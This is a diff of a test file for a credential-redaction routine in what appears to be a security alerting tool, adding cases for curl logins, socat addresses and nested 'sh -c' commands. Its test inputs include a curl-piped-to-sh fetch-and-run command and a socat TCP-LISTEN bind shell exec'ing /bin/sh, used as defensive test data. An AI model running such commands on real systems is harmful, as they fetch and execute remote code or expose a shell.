@@ -68,6 +68,43 @@ describe("redactText", () => {
     ["-u user:pass", "curl -u admin:hunter2 http://x", "curl -u admin:[REDACTED] http://x"],
     ["--user=user:pass", "--user=admin:hunter2", "--user=admin:[REDACTED]"],
     ["-uuser:pass", "-uadmin:hunter2", "-uadmin:[REDACTED]"],
+    [
+      "-u with an all-capitals user",
+      "curl -u ADMIN:Hunter2Secret http://x",
+      "curl -u ADMIN:[REDACTED] http://x",
+    ],
+    ["--user= with an all-capitals user", "--user=ROOT:Hunter2Secret", "--user=ROOT:[REDACTED]"],
+    ["-uUSER:pass", "curl -uADMIN:Hunter2Secret http://x", "curl -uADMIN:[REDACTED] http://x"],
+    [
+      "--proxy-user PROXY:pass",
+      "curl --proxy-user PROXY:Hunter2Secret",
+      "curl --proxy-user PROXY:[REDACTED]",
+    ],
+    [
+      "-u with a socat-like user for curl",
+      "curl -u TCP:Hunter2Secret http://x",
+      "curl -u TCP:[REDACTED] http://x",
+    ],
+    [
+      "-u with an access key id as user",
+      "curl -u AKIAIOSFODNN7EXAMPLE:Hunter2Secret http://x",
+      "curl -u AKIA[REDACTED]:[REDACTED] http://x",
+    ],
+    [
+      "-u USER:pass in a sh -c payload",
+      `sh -c "curl -u ROOT:Hunter2Secret http://x | sh"`,
+      `sh -c "curl -u ROOT:[REDACTED] http://x | sh"`,
+    ],
+    [
+      "-u TOKEN: (the token is the user)",
+      `curl -u "sk_test_4eC39HqLyjWDarjtT1zdp7dc:" http://x`,
+      `curl -u "[REDACTED]:" http://x`,
+    ],
+    [
+      "-u USER:pass after a socat in an earlier command",
+      "socat -V; curl -u ADMIN:Hunter2Secret http://x",
+      "socat -V; curl -u ADMIN:[REDACTED] http://x",
+    ],
     ["URL credentials", "https://bob:s3cr3t@example.com/x", "https://bob:[REDACTED]@example.com/x"],
     ["URL password only", "redis://:pw123@cache:6379", "redis://:[REDACTED]@cache:6379"],
     [
@@ -128,6 +165,12 @@ describe("redactText", () => {
   it.each([
     ["nc UDP flag", "nc -u 10.0.0.5 53"],
     ["socat unidirectional address", "socat -u TCP:db.internal:5432 -"],
+    ["socat address in lower case", "socat -u tcp4:db.internal:5432 -"],
+    [
+      "socat reverse address after sudo and options",
+      "sudo /usr/bin/socat -d -d -U TCP-LISTEN:8080,fork EXEC:/bin/sh",
+    ],
+    ["socat address in a sh -c payload", `sh -c 'socat -u OPENSSL:db.internal:443,verify=0 STDOUT'`],
     ["user agent", "--user-agent=Mozilla/5.0:x"],
     ["user without password", "https://git@github.com/org/repo.git"],
     ["working directory", "PWD=/app OLDPWD=/"],
@@ -219,6 +262,30 @@ describe("redactArgs", () => {
     ["nc -p is a port", "nc", ["-p", "4444", "-l"], ["-p", "4444", "-l"]],
     ["nc -u is UDP", "nc", ["-u", "10.0.0.5", "53"], ["-u", "10.0.0.5", "53"]],
     ["socat -u address", "socat", ["-u", "TCP:host:80", "-"], ["-u", "TCP:host:80", "-"]],
+    [
+      "socat -U address",
+      "/usr/bin/socat",
+      ["-U", "tcp-listen:80,fork", "-"],
+      ["-U", "tcp-listen:80,fork", "-"],
+    ],
+    ["socat -u non-address", "socat", ["-u", "ADMIN:pw1", "-"], ["-u", "ADMIN:[REDACTED]", "-"]],
+    ["curl -u USER:pass", "curl", ["-u", "ADMIN:pw1"], ["-u", "ADMIN:[REDACTED]"]],
+    ["curl -u TYPE:pass", "curl", ["-u", "TCP:pw1"], ["-u", "TCP:[REDACTED]"]],
+    [
+      "curl --proxy-user PROXY:pass",
+      "curl",
+      ["--proxy-user", "PROXY:pw1"],
+      ["--proxy-user", "PROXY:[REDACTED]"],
+    ],
+    ["curl -uUSER:pass", "curl", ["-uADMIN:pw1"], ["-uADMIN:[REDACTED]"]],
+    ["curl -u TOKEN:", "curl", ["-u", "sk_test_4eC39HqLyjWDarjtT1zdp7dc:"], ["-u", "[REDACTED]:"]],
+    ["curl -u user: (short, a login)", "curl", ["-u", "admin:"], ["-u", "admin:"]],
+    [
+      "sh -c payload with USER:pass",
+      "sh",
+      ["-c", "curl -u ROOT:pw1 http://x | sh"],
+      ["-c", "curl -u ROOT:[REDACTED] http://x | sh"],
+    ],
     ["any tool --token", "/usr/bin/tool", ["--token", "t1"], ["--token", "[REDACTED]"]],
     [
       "sh -c payload",
@@ -263,13 +330,30 @@ interface Planted {
   argv: string[];
 }
 
+// Every kind of login name: lower, mixed and all-capitals case, digits, access key ids. Never a socat
+// address type (`socat -u TCP:host:80` is an address, not a login), which has tests of its own.
+const SOCAT_TYPE_LIKE =
+  /^(?:tcp|udp|sctp|dccp|openssl|ssl|dtls|ip|unix|abstract|local|vsock|socket|socks|proxy|exec|system|shell|open|gopen|creat|file|pipe|fd|accept|pty|readline|std|tun|interface|posixmq)/i;
+const userArb = fc
+  .oneof(
+    fc.constantFrom("admin", "ADMIN", "ROOT", "Admin", "svc-deploy", "DEPLOY-BOT", "USER1", "u", "1000"),
+    fc.string({ unit: fc.constantFrom(...upper), minLength: 1, maxLength: 12 }),
+    fc.string({ unit: fc.constantFrom(...alnum, "-", "_", "."), minLength: 1, maxLength: 12 }),
+    fc.string({ unit: fc.constantFrom(...upper), minLength: 16, maxLength: 16 }).map((s) => `AKIA${s}`),
+  )
+  .filter((user) => !SOCAT_TYPE_LIKE.test(user));
+const userPasswordOptions = ["-u", "--user", "-U", "--proxy-user"];
+
 const plantedArb: fc.Arbitrary<Planted> = fc.oneof(
   secretArb.map((s) => ({ secret: s, argv: ["-H", `Authorization: Bearer ${s}`] })),
   secretArb.map((s) => ({ secret: s, argv: ["--header", `authorization: Basic ${s}`] })),
   secretArb.map((s) => ({ secret: s, argv: ["-H", `X-Api-Key: ${s}`] })),
-  secretArb.map((s) => ({ secret: s, argv: ["-u", `admin:${s}`] })),
-  secretArb.map((s) => ({ secret: s, argv: ["--user", `admin:${s}`] })),
-  secretArb.map((s) => ({ secret: s, argv: [`--user=admin:${s}`] })),
+  fc
+    .tuple(secretArb, userArb, fc.constantFrom(...userPasswordOptions))
+    .map(([s, user, option]) => ({ secret: s, argv: [option, `${user}:${s}`] })),
+  fc
+    .tuple(secretArb, userArb, fc.constantFrom("-u", "--user=", "--proxy-user="))
+    .map(([s, user, option]) => ({ secret: s, argv: [`${option}${user}:${s}`] })),
   secretArb.map((s) => ({ secret: s, argv: [`https://admin:${s}@example.com/path`] })),
   fc
     .string({ unit: fc.constantFrom(...upper), minLength: 14, maxLength: 14 })
@@ -311,17 +395,21 @@ describe("a secret planted anywhere in argv never leaves the function", () => {
         plantedArb,
         fc.array(harmlessArg, { maxLength: 6 }),
         fc.nat(),
-        fc.constantFrom("argv", "sh -c", "ancestor"),
+        fc.constantFrom("argv", "sh -c", "ancestor", "ancestor sh -c", "grandparent sh -c"),
         fc.constantFrom("curl", "wget", "nc", "socat", "sh"),
         ({ secret, argv }, around, at, where, tool) => {
           const position = at % (around.length + 1);
           const args = [...around.slice(0, position), ...argv, ...around.slice(position)];
+          const payload = `${tool} ${args.map(shellQuote).join(" ")} | sh`;
           const f: Finding = finding();
           f.event.process.name = tool;
           if (where === "argv") f.event.process.args = args;
-          if (where === "sh -c")
-            f.event.process.args = ["-c", `${tool} ${args.map(shellQuote).join(" ")} | sh`];
+          if (where === "sh -c") f.event.process.args = ["-c", payload];
           if (where === "ancestor") f.event.ancestors[0] = { name: "sh", path: "/bin/sh", args: args };
+          if (where === "ancestor sh -c")
+            f.event.ancestors[0] = { name: "sh", path: "/bin/sh", args: ["-c", payload] };
+          if (where === "grandparent sh -c")
+            f.event.ancestors[1] = { name: "bash", path: "/bin/bash", args: ["-c", `(${payload}) &`] };
           f.process = f.event.process;
 
           const [signal] = buildSignals([f]);
